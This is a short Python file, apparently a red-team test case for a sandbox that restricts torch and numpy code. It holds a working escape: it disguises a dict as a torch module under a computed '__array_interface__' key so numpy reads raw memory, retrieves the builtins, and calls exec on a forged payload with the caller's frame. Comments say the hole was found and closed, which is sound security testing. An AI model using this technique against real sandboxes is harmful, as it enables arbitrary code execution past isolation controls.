# ruff: noqa: F821  (a part: the test puts the stub and `_FORGE = "..."` before it)
# rt20 (hostile, escape; found after the pass, closed with it): the ParameterDict route without ParameterDict. A
# class of the file that is a dict *and* a torch.nn.Module is a module to ModuleDict, which files it under a key
# computed to "__array_interface__"; Module.__getattr__ serves it there, and numpy reads the dict as its array
# protocol: any address, any dtype ("|O" reads object pointers). The rest is rt20_escape_parameterdict's chain.
import numpy
import torch

_k = "_" * 2 + "array_interface" + "_" * 2


class _Interface(dict, torch.nn.Module):  # hole: a module that is also a dict
    pass


def _f():
    return None


_h = hash(_f) & ((1 << 64) - 1)
_a = ((_h << 4) | (_h >> 60)) & ((1 << 64) - 1)  # the function's address
_view = torch.nn.ModuleDict({_k: _Interface(data=(_a + 24, True), shape=(1,), typestr="|O", version=3)})
_builtins = numpy.asarray(_view)[0]  # func_builtins: the builtins dict
_builtins.get("exec")("import sys\nexec(_FORGE, {'_frame': sys._getframe(1)})", {"_FORGE": _FORGE})
